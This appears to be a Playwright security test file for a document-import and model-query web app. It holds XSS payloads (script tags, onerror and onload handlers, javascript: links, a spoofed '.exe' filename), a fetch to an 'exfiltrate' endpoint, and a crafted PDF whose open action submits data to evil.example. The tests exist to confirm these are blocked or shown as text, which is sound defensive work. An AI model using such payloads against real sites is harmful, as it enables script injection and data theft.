import { writeFileSync } from 'node:fs';
import { expect, test } from './test';
import { dropFiles, expectImported, pasteDocument } from './helpers';

test('the Content Security Policy is in force: injected scripts and foreign hosts are blocked', async ({
	page,
	cspViolations
}) => {
	await page.goto('/');
	await expect(page.getByRole('heading', { name: 'Add documents' })).toBeVisible();
	const outcome = await page.evaluate(async () => {
		const script = document.createElement('script');
		script.textContent = 'window.__injected = true';
		document.head.append(script);
		let fetched = true;
		try {
			await fetch('http://127.0.0.1:9/exfiltrate');
		} catch {
			fetched = false;
		}
		await new Promise((r) => setTimeout(r, 100));
		return {
			injected: 'injected' in window && (window as { injected?: unknown }).injected,
			fetched
		};
	});
	expect(outcome.fetched).toBe(false);
	expect(await page.evaluate(() => '__injected' in window)).toBe(false);
	await expect.poll(() => cspViolations.length).toBeGreaterThanOrEqual(2);
	expect(cspViolations.some((v) => v.startsWith('script-src'))).toBe(true);
	expect(cspViolations.some((v) => v.startsWith('connect-src'))).toBe(true);
	// These were the point of the test; the fixture checks that nothing else was blocked.
	cspViolations.length = 0;
});

test('hostile document text is shown as text, never run', async ({ page }) => {
	let dialogs = 0;
	page.on('dialog', async (d) => {
		dialogs++;
		await d.dismiss();
	});
	await page.goto('/');
	const hostile =
		'<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a>' +
		'<svg onload="alert(4)"></svg> \u202Egnp.exe';
	await pasteDocument(page, hostile, '<img src=x onerror=alert(5)>');
	await page.getByRole('link', { name: '<img src=x onerror=alert(5)>' }).click();
	await expect(page.getByTestId('document-text')).toContainText('<script>alert(1)</script>');
	await expect(page.locator('main img[src="x"], main svg[onload]')).toHaveCount(0);
	expect(dialogs).toBe(0);
});

test('hostile model output is shown as text, never run', async ({ page }) => {
	let dialogs = 0;
	page.on('dialog', async (d) => {
		dialogs++;
		await d.dismiss();
	});
	await page.goto('/');
	await pasteDocument(page, 'Befund ohne Besonderheiten.', 'Harmlos');
	await page.getByRole('link', { name: 'Models' }).click();
	const card = page.getByTestId('model-card').filter({ hasText: 'Hospital server (fixture)' });
	await card.getByRole('button', { name: 'Load', exact: true }).click();
	await expect(card.getByText('Loaded')).toBeVisible();
	await page.getByRole('link', { name: 'Ask', exact: true }).click();
	await page.getByTestId('ask-document').selectOption({ label: 'Harmlos' });
	await page.getByLabel('Question').fill('Answer badly [[hostile]]');
	await page.getByRole('button', { name: 'Ask', exact: true }).click();
	const answer = page.getByTestId('answer');
	await expect(answer).toContainText('<script>alert(1)</script>');
	await expect(answer.locator('img, script, a')).toHaveCount(0);
	expect(dialogs).toBe(0);
});

test('a PDF with JavaScript, a link and an embedded file imports as text; nothing runs or loads', async ({
	page
}, testInfo) => {
	// Built here with pdf-lib: an open action that runs JavaScript, a link annotation to a
	// foreign host, and an attached HTML file. pdf.js runs with isEvalSupported false and
	// never executes document scripts; the app only reads the text.
	const { PDFDocument, PDFName, PDFString, StandardFonts } = await import('pdf-lib');
	const doc = await PDFDocument.create();
	const font = await doc.embedFont(StandardFonts.Helvetica);
	const pdfPage = doc.addPage([595, 842]);
	pdfPage.drawText('Befund: unauffaellig. Kontrolle in 6 Monaten.', {
		x: 56,
		y: 780,
		size: 11,
		font
	});
	doc.addJavaScript(
		'open',
		'app.alert("pdf script ran"); this.submitForm("http://evil.example/");'
	);
	const link = doc.context.obj({
		Type: 'Annot',
		Subtype: 'Link',
		Rect: [56, 770, 300, 790],
		Border: [0, 0, 0],
		A: { Type: 'Action', S: 'URI', URI: PDFString.of('http://evil.example/track') }
	});
	pdfPage.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
	await doc.attach(new TextEncoder().encode('<script>alert(1)</script>'), 'payload.html', {
		mimeType: 'text/html'
	});
	const path = testInfo.outputPath('hostile.pdf');
	writeFileSync(path, await doc.save());

	let dialogs = 0;
	page.on('dialog', async (d) => {
		dialogs++;
		await d.dismiss();
	});
	const foreign: string[] = [];
	page.on('request', (r) => {
		if (new URL(r.url()).hostname === 'evil.example') foreign.push(r.url());
	});
	await page.goto('/');
	await dropFiles(page, [path]);
	await expectImported(page, 'hostile.pdf');
	await page.getByRole('link', { name: 'hostile.pdf' }).click();
	await expect(page.getByTestId('document-text')).toContainText('Kontrolle in 6 Monaten');
	await expect(page.locator('main a[href*="evil.example"], main iframe, main object')).toHaveCount(
		0
	);
	expect(dialogs).toBe(0);
	expect(foreign).toEqual([]);
});
